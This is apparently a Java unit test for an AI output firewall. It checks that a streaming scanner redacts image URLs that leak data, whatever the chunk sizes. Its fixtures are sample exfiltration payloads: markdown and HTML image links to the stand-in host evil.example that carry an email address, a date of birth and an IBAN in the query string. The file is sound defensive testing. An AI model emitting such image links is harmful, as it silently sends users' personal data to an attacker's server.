package io.trustgate.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Action;
import io.trustgate.api.ScanContext;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * The exfiltration rule over a stream gives what it gives over the whole answer, whatever the chunking (QA report 8,
 * defects 1, 2 and 7; the gateway-level tests are in StreamedExfiltrationIT).
 */
class StreamScreenExfiltrationTest {
    private static final String ALT =
            "Quarterly revenue chart for the northern region showing steady growth ".repeat(6);

    private static FirewallChain chain() {
        return Scanners.chain(List.of(new FirewallChain.Rule(Scanners.create("exfiltration"), Action.REDACT, 0.8)));
    }

    private static String whole(String text) {
        StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
        return StreamScreenTest.stream(screen, text, () -> text.length());
    }

    private static void sameAsWhole(String text, String expected) {
        assertThat(whole(text)).isEqualTo(expected);
        for (int size : new int[] {1, 4, 20}) {
            StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
            assertThat(StreamScreenTest.stream(screen, text, () -> size))
                    .as("size " + size)
                    .isEqualTo(expected);
        }
        Random r = new Random(text.length());
        for (int round = 0; round < 20; round++) {
            StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
            assertThat(StreamScreenTest.stream(screen, text, () -> 1 + r.nextInt(40)))
                    .as("random " + round)
                    .isEqualTo(expected);
        }
    }

    @Test
    void imageWithLongAltText() {
        sameAsWhole(
                "Sure. ![" + ALT + "](https://evil.example/p.png?u=john.doe@bigbank.com) Done.",
                "Sure. ![" + ALT + "]([IMAGE_EXFILTRATION_1]) Done.");
    }

    @Test
    void imgTagWithLongAttributesBeforeSrc() {
        String attrs = "<img width=\"600\" height=\"400\" class=\"" + "chart ".repeat(70) + "\" src=\"";
        sameAsWhole(
                "Sure. " + attrs + "https://evil.example/p.png?dob=1985-06-17\"> Done.",
                "Sure. " + attrs + "[IMAGE_EXFILTRATION_1]\"> Done.");
    }

    @Test
    void referenceDefinitionBeforeItsImage() {
        String def = "https://evil.example/pixel.png?contact=john.doe@bigbank.com";
        String text = "Summary follows.\n\n[r1]: " + def + "\n\n"
                + "This paragraph discusses the regional results in more detail. ".repeat(8)
                + "\n\n![status][r1] Done.";
        sameAsWhole(text, text.replace(def, "[IMAGE_EXFILTRATION_1]"));
        // the use first, the definition far after it
        String useFirst = "![status][r1] Summary follows.\n\n"
                + "This paragraph discusses the regional results in more detail. ".repeat(8) + "\n\n[r1]: " + def
                + "\n\nDone.";
        sameAsWhole(useFirst, useFirst.replace(def, "[IMAGE_EXFILTRATION_1]"));
    }

    @Test
    void urlLongerThanTheHoldbackLeavesWhole() {
        String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
        sameAsWhole("Sure. ![x](" + url + ") Done.", "Sure. ![x]([IMAGE_EXFILTRATION_1]) Done.");
    }

    @Test
    void ordinaryTextWithALongAltTextAndAnInnocentImageIsUnchangedAndStillStreams() {
        String prose = "The weather was fine and the sea was calm, so we walked along the shore. ".repeat(6);
        String text = prose + "![" + ALT + "](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg) " + prose
                + "See [the docs](https://docs.python.org/3/library/asyncio.html). " + prose;
        sameAsWhole(text, text);
        StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
        int emitted = 0;
        for (int i = 0; i < text.length(); i += 4) {
            StreamScreen.Step s = screen.push(text.substring(i, Math.min(text.length(), i + 4)));
            if (s instanceof StreamScreen.Step.Emit e) {
                emitted += e.text().length();
            }
            // never more than the holdback plus one URL behind
            assertThat(i + 4 - emitted).isLessThanOrEqualTo(128 + 4 + 70);
        }
    }
}
